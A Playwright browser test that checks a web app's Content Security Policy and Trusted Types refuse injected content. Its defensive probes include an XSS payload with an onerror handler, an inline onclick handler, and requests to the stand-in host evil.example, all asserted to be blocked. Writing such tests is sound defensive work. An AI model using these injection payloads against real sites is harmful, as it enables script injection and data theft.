// SPDX-FileCopyrightText: Foyer contributors
// SPDX-License-Identifier: GPL-3.0-or-later
import { expect } from "@playwright/test";

import { visit } from "./support/people.js";
import { FoyerServer } from "./support/server.js";
import { test } from "./support/test.js";

test("even where a fault let text of people become markup, the browser runs, draws and fetches none of it", { tag: "@firefox" }, async ({
  browser,
}) => {
  const server = await FoyerServer.start();
  const { page } = await visit(browser, server.url, "ada");
  await expect(page.getByTestId("sign-in")).toBeVisible();

  const refused = await page.evaluate(async () => {
    // Told a moment later, each for itself.
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
      document.documentElement.dataset["refused"] = `${document.documentElement.dataset["refused"] ?? ""} ${effectiveDirective}`;
    });
    const thrownBy = (work: () => unknown): string => {
      try {
        work();
        return "";
      } catch (error) {
        return (error as Error).name;
      }
    };
    const box = document.createElement("p");
    const script = document.createElement("script");
    const thrown = {
      markup: thrownBy(() => (box.innerHTML = "<img src=x onerror=alert(1)>")),
      scriptText: thrownBy(() => (script.text = "document.title = 'taken'")),
      policy: thrownBy(() =>
        (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes.createPolicy(
          "mine",
          { createHTML: (text: string) => text },
        ),
      ),
      worker: thrownBy(() => new Worker("https://evil.example/worker.js")),
    };
    box.setAttribute("style", "position: fixed");
    const handler = thrownBy(() => box.setAttribute("onclick", "document.title = 'taken'"));
    const picture = new Image();
    picture.src = "https://evil.example/pixel.png";
    document.body.append(box, picture);
    box.click();
    const fetched = await fetch("https://evil.example/").then(
      () => "fetched",
      () => "refused",
    );
    return { thrown, handler, fetched, position: getComputedStyle(box).position, title: document.title };
  });

  expect(refused.thrown.markup).toBe("TypeError");
  expect(refused.thrown.scriptText).toBe("TypeError");
  expect(refused.handler).toBe("TypeError");
  expect(refused.thrown.policy).toBe("TypeError");
  expect(refused.thrown.worker).not.toBe("");
  expect(refused.fetched).toBe("refused");
  expect(refused.position).toBe("static");
  expect(refused.title).not.toBe("taken");
  for (const each of ["style-src-attr", "img-src", "connect-src"]) {
    await expect(page.locator("html")).toHaveAttribute("data-refused", new RegExp(each));
  }
  await server.remove();
});
